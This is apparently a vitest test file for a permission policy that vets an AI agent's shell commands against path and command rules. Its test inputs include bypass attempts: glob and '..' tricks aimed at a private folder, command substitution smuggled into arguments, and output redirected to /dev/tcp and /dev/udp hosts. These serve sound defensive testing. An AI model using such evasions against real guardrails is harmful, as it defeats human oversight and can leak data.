/**
 * Rules of users: the calls they match when a command does not state plainly which files it touches or what it runs.
 */

import { link, mkdir, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { temporaryFolder } from '../../../test/support/temporary-folder.js'
import { share } from '../../../test/support/when-done.js'
import { Policy, type PolicyRule } from '../../protocol/policy/policy.js'
import { evaluate } from '../evaluate.js'
import { nodeFileSystem } from '../file/node-file-system.js'

const workspace = share(async () => {
  const folder = await temporaryFolder()
  for (const name of ['private/deep', 'src', 'build']) await mkdir(join(folder, name), { recursive: true })
  for (const name of ['private/a.txt', 'private/deep/b.txt', 'src/a.ts', 'build/out.js'])
    await writeFile(join(folder, name), 'x')
  await symlink('../private/a.txt', join(folder, 'src/link.txt'))
  await writeFile(join(folder, '.env'), 'x')
  await link(join(folder, '.env'), join(folder, 'src/twin.txt'))
  return folder
})

function verdict(command: string, verdictOfRule: PolicyRule['verdict'], when: PolicyRule['when']): string {
  const policy = Policy.parse({ rules: [{ name: 'mine', verdict: verdictOfRule, when }] })
  const call = {
    tool: 'Bash',
    input: { command },
    mode: 'default' as const,
    cwd: workspace(),
    home: '/home/dev',
  }
  const judged = evaluate({ ...call, fs: nodeFileSystem() }, policy)
  return judged.rule === 'mine' ? judged.verdict : `${judged.verdict} otherwise`
}

describe('a path rule that denies', () => {
  test.each([
    'cat private/a.txt',
    'cat priv*/a.txt',
    'cat */a.txt',
    'cat private/*',
    'cat src/*.txt',
    'cat src/../private/a.txt',
    'grep -r s .',
    'grep -r s private',
    'cp -r . /tmp/copy',
    'cat $(find . -name a.txt)',
    'find . -name "*.txt" -exec cat {} +',
    'find . -type f | xargs cat',
    'cd private && cat a.txt',
    'cd private; cat a.txt',
  ])('holds for %s', (command) => {
    expect(verdict(command, 'deny', { paths: ['private/**'] })).toMatch(/^(?:deny|ask)$/)
  })

  test.each(['cat priv*/a.txt', 'cat */a.txt', 'cat src/*.txt', 'grep -r s .', 'cp -r . /tmp/copy'])(
    'denies %s',
    (command) => {
      expect(verdict(command, 'deny', { paths: ['private/**'] })).toBe('deny')
    },
  )

  test.each([
    'cat src/a.ts',
    'cat src/*.ts',
    'cat */a.ts',
    'grep -r s src/a.ts build',
    'ls',
    'find . -name "*.ts"',
  ])('does not hold for %s', (command) => {
    expect(verdict(command, 'deny', { paths: ['private/**'] })).toBe('allow otherwise')
  })

  test('asks where nobody knows which file is meant', () => {
    expect(verdict('cat $x', 'deny', { paths: ['private/**'] })).toBe('ask')
    expect(verdict('cat $(git diff --name-only)', 'deny', { paths: ['private/**'] })).toBe('ask')
  })
})

describe('a command rule that denies', () => {
  test.each([
    'git push',
    'git -C . push',
    'git -c x=y push origin main',
    'git --git-dir .git --no-pager push',
    'git --git-dir=.git push',
    'git -C . -C .. -p push',
    '/usr/bin/git -C . push',
    'env git -C . push',
    'ls [$(git push)]*',
    'ls {1..$(git -C . push)}',
  ])('holds for %s', (command) => {
    expect(verdict(command, 'deny', { commands: ['git push **'] })).toBe('deny')
  })

  test.each([
    ['npm --prefix x run deploy', 'npm run deploy'],
    ['docker --context x run alpine', 'docker run **'],
    ['docker -H tcp://h:1 --debug run alpine', 'docker run **'],
    ['kubectl -n prod delete pod x', 'kubectl delete **'],
    ['cargo +nightly publish', 'cargo publish'],
  ])('%s is %s', (command, pattern) => {
    expect(verdict(command, 'deny', { commands: [pattern] })).toBe('deny')
  })

  test('does not hold for another command', () => {
    expect(verdict('git log --grep push', 'deny', { commands: ['git push **'] })).toBe('allow otherwise')
  })
})

describe('a rule that allows', () => {
  test.each([
    ['npm run build', 'npm run *', 'allow'],
    ['npm run $(id)', 'npm run *', 'ask otherwise'],
    ['npm run $x', 'npm run *', 'ask otherwise'],
    ['npm run "$x"', 'npm run **', 'ask otherwise'],
    ['npm run te*', 'npm run *', 'ask otherwise'],
    ['npm run [$(id)]', 'npm run *', 'ask otherwise'],
    ['npm --prefix /elsewhere run build', 'npm run *', 'ask otherwise'],
    ['./npm run build', 'npm run *', 'ask otherwise'],
    ['/usr/bin/npm run build', 'npm run *', 'allow'],
    ['git -c core.pager=x push', 'git push **', 'ask otherwise'],
    ['make src/a.ts', 'make **', 'allow'],
    ['make src/twin.txt', 'make **', 'ask otherwise'],
    ['cd src && make ../build', 'make **', 'allow'],
    ['cd src; make ../build', 'make **', 'ask otherwise'],
    ['cd elsewhere || make ../build', 'make **', 'ask otherwise'],
    ['npm run build > build/log', 'npm run *', 'allow'],
    ['npm run build > /dev/tcp/a.example/80', 'npm run *', 'ask otherwise'],
    ['npm run build 3<>/dev/udp/a.example/53', 'npm run *', 'ask otherwise'],
  ])('%s, with %s: %s', (command, pattern, expected) => {
    expect(verdict(command, 'allow', { commands: [pattern] })).toBe(expected)
  })

  test.each([
    ['rm build/out.js', 'allow'],
    ['rm build/../src/a.ts', 'ask otherwise'],
    ['rm $x', 'ask otherwise'],
    ['rm */out.js', 'ask otherwise'],
  ])('for paths: %s: %s', (command, expected) => {
    expect(verdict(command, 'allow', { paths: ['build/**'] })).toBe(expected)
  })

  test('many stars in a rule cost little', () => {
    const pattern = '** a '.repeat(40)
    expect(verdict(`echo ${'a '.repeat(200)}`, 'deny', { commands: [`echo ${pattern}b`] })).toBe(
      'allow otherwise',
    )
  })
})
